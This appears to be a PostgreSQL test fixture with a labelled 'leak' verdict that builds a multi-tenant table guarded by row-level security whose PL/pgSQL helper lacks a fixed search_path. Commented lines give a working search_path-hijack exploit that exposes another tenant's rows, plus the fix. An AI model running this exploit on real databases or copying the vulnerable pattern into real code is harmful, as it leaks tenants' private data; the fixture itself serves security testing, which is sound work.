-- verdict: leak
-- kind: helper-plpgsql-path
-- object: public.docs
-- why: the PL/pgSQL helper finds another function first when the session says so
-- severity: high
-- also: public.current_tenant
-- roles: app_owner app_user
-- exploit-begin
-- create function scratch.raw_tenant() returns text language sql as $f$ select '00000000-0000-4000-8000-00000000000a'::text $f$;
-- set search_path = scratch, public;
-- select exists (select 1 from public.docs where tenant_id = '00000000-0000-4000-8000-00000000000a') as leaked;
-- exploit-end
-- fix-begin
-- alter function current_tenant() set search_path = pg_catalog, public, pg_temp;
-- fix-end

do $$ begin
  if to_regrole('app_owner') is null then create role app_owner nologin; end if;
  if to_regrole('app_user') is null then create role app_user login; end if;
end $$;
grant create, usage on schema public to app_owner;
grant usage on schema public to app_user;
set role app_owner;
create table tenants (id uuid primary key, name text not null);
insert into tenants values ('00000000-0000-4000-8000-00000000000a', 'Alder'), ('00000000-0000-4000-8000-00000000000b', 'Birch');
reset role; create schema scratch; grant usage, create on schema scratch to app_user; set role app_owner;
create function public.raw_tenant() returns text language sql stable as $$ select current_setting('app.tenant_id', true) $$;
create function current_tenant() returns uuid language plpgsql stable as $$ begin return raw_tenant()::uuid; end $$;
create table docs (
  id uuid primary key default gen_random_uuid(),
  tenant_id uuid not null references tenants (id),
  title text not null
);
insert into docs (tenant_id, title) values ('00000000-0000-4000-8000-00000000000a', 'A-SECRET'), ('00000000-0000-4000-8000-00000000000b', 'b');
alter table docs enable row level security;
create policy tenant_isolation on docs using (tenant_id = current_tenant());
grant select, insert, update, delete on docs to app_user;
reset role;
